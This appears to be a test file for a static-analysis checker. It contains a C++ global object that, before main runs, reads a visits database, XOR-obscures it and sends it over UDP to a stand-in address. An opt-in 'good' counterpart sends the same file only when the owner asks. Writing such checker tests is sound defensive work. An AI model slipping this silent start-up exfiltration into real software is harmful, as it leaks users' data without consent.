/* C++: a database is folded and posted by an object that exists before main runs. */
#include <arpa/inet.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

class Feed {
  public:
    explicit Feed(const char *where) : out(socket(AF_INET, SOCK_DGRAM, 0)) {
        sockaddr_in peer{};
        peer.sin_family = AF_INET;
        peer.sin_port = htons(9009);
        peer.sin_addr.s_addr = inet_addr(where);
        if (connect(out, reinterpret_cast<sockaddr *>(&peer), sizeof peer) != 0)
            close(out);
    }
    ~Feed() {
        close(out);
    }

  protected:
    int out;
};

struct Folded : Feed {
    Folded() : Feed("203.0.113.90") {
        unsigned char block[256];
        std::FILE *file = std::fopen("/var/lib/meter/visits.db", "rb");
        if (!file)
            return;
        for (std::size_t got; (got = std::fread(block, 1, sizeof block, file)) > 0;) {
            for (std::size_t i = 0; i < got; i++)
                block[i] ^= 0x27;
            // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/file-to-network]}}
            // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
            send(out, block, got, 0);
        }
        std::fclose(file);
    }
};

Folded folded;

} // namespace

/* The same file goes to a collector, if and where the owner asks for it. */
void good_collect() {
    char block[256];
    const char *where = std::getenv("COLLECTOR"), *wanted = std::getenv("COLLECT");
    if (!where || !wanted || std::strcmp(wanted, "yes") != 0)
        return;
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(9009);
    peer.sin_addr.s_addr = inet_addr(where);
    int out = socket(AF_INET, SOCK_STREAM, 0);
    std::FILE *file = std::fopen("/var/lib/meter/visits.db", "rb");
    if (file && connect(out, reinterpret_cast<sockaddr *>(&peer), sizeof peer) == 0)
        for (std::size_t got; (got = std::fread(block, 1, sizeof block, file)) > 0;)
            send(out, block, got, 0);
    if (file)
        std::fclose(file);
    close(out);
}
